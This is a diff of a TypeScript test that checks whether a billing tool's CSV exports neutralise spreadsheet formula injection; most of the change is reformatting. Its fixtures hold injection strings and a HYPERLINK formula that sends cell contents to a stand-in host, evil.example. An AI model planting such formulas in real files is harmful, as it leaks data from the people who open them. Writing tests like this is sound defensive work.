@@ -18,8 +18,27 @@ test('hostile text is neutralised in every CSV; amounts stay numbers; --bom only
       bill(CYCLE, 'unit-0301', 31520, JAN, '2026-01-15'),
       { ...pay(CYCLE, 'pay-1', 31520, '2026-01-10T10:00:00Z', 'cash', { reference: '@SUM(1+1)' }), actor: HYPERLINK },
       // Paid in full, then adjusted: the customer is owed 50.00, a negative balance.
-      { type: 'Adjust', commandId: 'adj-1', cycleId: CYCLE, actor: '-2+3', at: '2026-01-12T09:00:00Z', adjustmentId: 'a1', amountMinor: 5000, reason: '+goodwill' },
-      { type: 'Refund', commandId: 'ref-1', cycleId: CYCLE, actor: 'clerk-li', at: '2026-01-13T09:00:00Z', refundId: 'r1', paymentId: 'pay-1', amountMinor: 1000, reason: '\t=1+1 returned' },
+      {
+        type: 'Adjust',
+        commandId: 'adj-1',
+        cycleId: CYCLE,
+        actor: '-2+3',
+        at: '2026-01-12T09:00:00Z',
+        adjustmentId: 'a1',
+        amountMinor: 5000,
+        reason: '+goodwill',
+      },
+      {
+        type: 'Refund',
+        commandId: 'ref-1',
+        cycleId: CYCLE,
+        actor: 'clerk-li',
+        at: '2026-01-13T09:00:00Z',
+        refundId: 'r1',
+        paymentId: 'pay-1',
+        amountMinor: 1000,
+        reason: '\t=1+1 returned',
+      },
     ]);
     assert.is(w.renewal(['apply', 'day.jsonl']).status, 0);
     assert.is(w.renewal(['projections', 'rebuild']).status, 0);
@@ -32,7 +51,10 @@ test('hostile text is neutralised in every CSV; amounts stay numbers; --bom only
     assert.match(receipt!, `"'=HYPERLINK(""http://evil.example/?x=""&A1,""Click"")"`);
     assert.match(note!, `,'\t=1+1 returned,`);
     assert.equal([receipt!.split(',')[6], note!.split(',')[6]], ['31520', '1000']);
-    const arrears = w.renewal(['arrears', '--contract', 'unit-0301', '--as-of', '2026-02-01', '--format', 'csv']).stdout.split('\r\n')[1]!.split(',');
+    const arrears = w
+      .renewal(['arrears', '--contract', 'unit-0301', '--as-of', '2026-02-01', '--format', 'csv'])
+      .stdout.split('\r\n')[1]!
+      .split(',');
     // Due 315.20 - 50.00 = 265.20, net paid 315.20 - 10.00 = 305.20: the customer is owed 40.00.
     // Columns: ..., total_minor (5), total, due_minor, due, net_paid_minor, net_paid, outstanding_minor (11), outstanding.
     assert.is(arrears[11], '-4000', 'a negative amount is a number, not neutralised');
